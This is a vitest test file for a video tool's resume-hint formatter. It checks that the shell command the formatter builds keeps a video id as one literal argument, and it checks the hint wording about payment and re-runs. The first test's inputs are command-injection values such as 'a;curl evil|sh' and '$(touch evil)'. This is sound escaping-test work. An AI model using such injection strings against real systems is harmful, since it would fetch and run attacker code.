import { execFileSync } from "node:child_process";
import { expect, test } from "vitest";
import { ShowreelError } from "../../src/base/errors.ts";
import { formatResumeHint, withResumeHint } from "../../src/jobs/resume-hint.ts";

const facts = { isFree: false, isResumedByRerun: true };
const job = { provider: "heygen", surface: "video", ids: { video_id: "v_1" } };

test.each(["v_1", "a;curl evil|sh", "$(touch evil)", "it's", "`id`", "-x", "a b"])(
  "a shell reads the command that resumes %j as flags and the id, and runs nothing else",
  (id) => {
    const hint = formatResumeHint({ ...job, ids: { video_id: id } }, facts) ?? "";
    const [, rest = ""] = hint.split(": showreel ");
    const argv = execFileSync("/bin/sh", ["-c", `printf '%s\\n' ${rest}`], { encoding: "utf8" })
      .trimEnd()
      .split("\n");
    expect(argv).toEqual(["--provider", "heygen", "--video-id", id]);
  },
);

test.each([
  [facts, /^The video is paid for\. A re-run resumes it without paying again\. Resume it with/],
  [{ isFree: true, isResumedByRerun: true }, /^A re-run resumes it\. Resume it with/],
  [{ isFree: true, isResumedByRerun: false }, /^Resume it with/],
])("the resume hint speaks of money only where a video costs some (%j)", (given, expected) => {
  expect(formatResumeHint(job, given)).toMatch(expected);
});

test("the resume hint keeps every fact of an error, but not that nothing was submitted", () => {
  const error = new ShowreelError("rate_limited", "Too many requests.", {
    hint: "Run again later.",
    submitted: false,
    retryable: true,
    retryAfterMs: 5_000,
    location: { file: "video.md", line: 3 },
  });
  const { code, hint, submitted, retryable, retryAfterMs, location } = withResumeHint(
    error,
    job,
    facts,
  ) as ShowreelError;
  expect(hint).toMatch(/^Run again later\. The video is paid for\./);
  expect({ code, submitted, retryable, retryAfterMs, location }).toEqual({
    code: "rate_limited",
    submitted: undefined,
    retryable: true,
    retryAfterMs: 5_000,
    location: { file: "video.md", line: 3 },
  });
});

test("a re-run is not said to resume a video whose file fails in the same way again", () => {
  const error = new ShowreelError("invalid_video", "The file is not a playable video.", { recurs: true });
  const { hint } = withResumeHint(error, job, facts) as ShowreelError;
  expect(hint).toBe(
    "The video is paid for. A re-run doesn't pay again, but it fails in the same way until the provider " +
      'changes the file. Once the provider has changed it, download it with `video_id` set to "v_1": ' +
      "showreel --provider heygen --video-id v_1",
  );
  expect(
    (withResumeHint(error, job, { ...facts, isResumedByRerun: false }) as ShowreelError).hint,
  ).not.toContain("re-run");
});
